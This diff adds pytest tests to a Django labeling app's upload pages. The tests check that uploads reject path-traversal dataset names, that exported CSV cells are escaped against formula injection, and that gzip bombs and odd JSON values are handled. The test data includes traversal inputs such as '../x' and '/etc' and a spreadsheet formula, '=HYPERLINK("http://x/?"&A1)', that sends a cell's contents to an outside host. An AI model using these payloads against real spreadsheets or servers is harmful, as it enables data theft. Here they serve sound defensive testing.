@@ -1,16 +1,20 @@
 """Uploading through the pages: look at a file, name its columns, try it, import it, follow it, mend what is left."""
 
 import csv
+import gzip
+import html
 import io
 import json
 from pathlib import Path
 from typing import Any
 
+import pyarrow as pa
 import pytest
 from django.contrib.auth.models import User
 from django.db import connection
 from django.test import Client
 from django.test.utils import CaptureQueriesContext
+from pyarrow import parquet
 
 from labeling import jobs
 from labeling.models import ImportBatch, Label, Pair, Project, RejectedLine
@@ -234,3 +238,91 @@ def test_data_sets_by_name_are_offered_only_where_the_installation_allows_them(
     assert response["Location"] == f"/imports/{ImportBatch.objects.get().pk}/"
     wrong = as_alice.post(f"{URL}named/", {"folder": "talk", "hub": "a/b"})
     assert "Name a folder or a data set on the hub." in text(wrong)
+
+
+@pytest.mark.parametrize("name", ["..", ".", "../x", "./x", "x/..", "/etc", "-x/y", "a/b/c", "a//b", "text", "json"])
+def test_a_path_is_no_name_on_the_hub(as_alice: Client, project: Project, settings: Any, name: str) -> None:
+    """Nor is one word, by which the library knows its own readers of local files."""
+    settings.ENV = settings.ENV.model_copy(update={"hub_datasets": True})
+    response = as_alice.post(f"{URL}named/", {"hub": name})
+    assert response.status_code == 422
+    assert "owner/name" in text(response)
+    assert not ImportBatch.objects.exists()
+
+
+def test_a_folder_beside_the_server_is_no_name_on_the_hub(
+    as_alice: Client, project: Project, home: Path, settings: Any, sent: Sent, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    settings.ENV = settings.ENV.model_copy(update={"hub_datasets": True})
+    (home / "labeling" / "services").mkdir(parents=True)
+    monkeypatch.chdir(home)
+    response = as_alice.post(f"{URL}named/", {"hub": "labeling/services"})
+    assert response.status_code == 422
+    assert "a folder here" in text(response)
+    taken = as_alice.post(f"{URL}named/", {"hub": "labeling/other-1.5"})
+    assert taken["Location"] == f"/imports/{ImportBatch.objects.get().pk}/"
+
+
+def test_odd_values_and_reasons_do_not_keep_the_first_rows_from_being_shown(as_alice: Client, project: Project) -> None:
+    rows = [{**PAIR, "who": ["x"], "m": {"n": 1}, "best": ["left"]}, {**PAIR, "best": 10**400}, {**PAIR, "best": -1}]
+    twice = b'{"\\ud800": 1, "\\ud800": 2}\n'
+    url = looked_at(as_alice, b"".join(json.dumps(row).encode() + b"\n" for row in rows) + twice, "a.jsonl")
+    plan = {"layout": "columns", "prompt": "prompt", "response_a": "response_a", "response_b": "response_b"}
+    shown = as_alice.post(url, {**plan, "winner": "best", "model_a": "who", "model_b": "m", "do": "look"})
+    assert shown.status_code == 200
+    assert "winner: is not a verdict" in html.unescape(text(shown))
+    assert "winner: -1 is not 0 (tie), 1 (A) or 2 (B)" in html.unescape(text(shown))
+    assert "?: given twice" in text(shown)
+
+
+def test_rejected_cells_are_not_computed_by_a_spreadsheet_and_come_back_as_they_were(
+    as_alice: Client, project: Project
+) -> None:
+    attack = '=HYPERLINK("http://x/?"&A1)'
+    rows = io.StringIO()
+    table = csv.writer(rows)
+    table.writerow(["prompt", "response_a", "response_b", "=note", "model_a"])
+    table.writerow([attack, "x", "x", "-1", "'=kept"])
+    _response, content = rejected(as_alice, rows.getvalue(), "a.csv")
+    header, cells = csv.reader(io.StringIO(content))
+    assert header == ["prompt", "response_a", "response_b", "'=note", "model_a", "rejected_because"]
+    assert cells[0] == "'" + attack
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in header + cells)
+    mended = io.StringIO()
+    csv.writer(mended).writerows([header, [*cells[:2], "y", *cells[3:]]])
+    batch = imports.import_file(project, file=io.BytesIO(mended.getvalue().encode()), filename="mended.csv")
+    assert (batch.imported, batch.rejected) == (1, 0)
+    pair = Pair.objects.get()
+    assert (pair.prompt[-1]["content"], pair.model_a) == (attack, "'=kept")
+
+
+def many(count: int) -> bytes:
+    return b"".join(json.dumps({**PAIR, "prompt": f"Add {n}."}).encode() + b"\n" for n in range(count))
+
+
+def test_a_small_file_that_unpacks_to_much_is_left_to_a_worker(
+    as_alice: Client, project: Project, home: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(imports, "AT_ONCE", 20_000)
+    upload(as_alice, gzip.compress(many(10)), "small.jsonl.gz")
+    assert ImportBatch.objects.latest("pk").state == "done"
+    upload(as_alice, gzip.compress(many(5_000)), "bomb.jsonl.gz")
+    assert ImportBatch.objects.latest("pk").state == "waiting"
+
+
+def test_of_what_unpacks_to_much_a_page_shows_no_more_than_it_may_unpack(
+    as_alice: Client, project: Project, home: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr("labeling.services.previews.LOOKED_INTO", 100_000)
+    monkeypatch.setattr(imports, "LOOKED_INTO", 100_000)
+    monkeypatch.setattr("labeling.services.checking.ROWS", 100)
+    table = io.BytesIO()
+    parquet.write_table(pa.Table.from_pylist([{**PAIR, "prompt": "w" * 300_000}]), table)
+    url = looked_at(as_alice, gzip.compress(table.getvalue()), "wide.parquet.gz")
+    assert "too large to be looked into" in text(as_alice.get(url))
+    assert "too large" not in text(as_alice.get(looked_at(as_alice, b"prompt,response_a,response_b\n", "none.csv")))
+    refused = as_alice.post(url, {"layout": "", "do": "try"}, follow=True)
+    assert "Unpacked, the file holds more than" in text(refused)
+    url = looked_at(as_alice, gzip.compress(many(5_000)), "many.jsonl.gz")
+    assert "Add 1." in text(as_alice.get(url))
+    assert "This is the beginning of the file" in text(as_alice.post(url, {"layout": "", "do": "try"}))
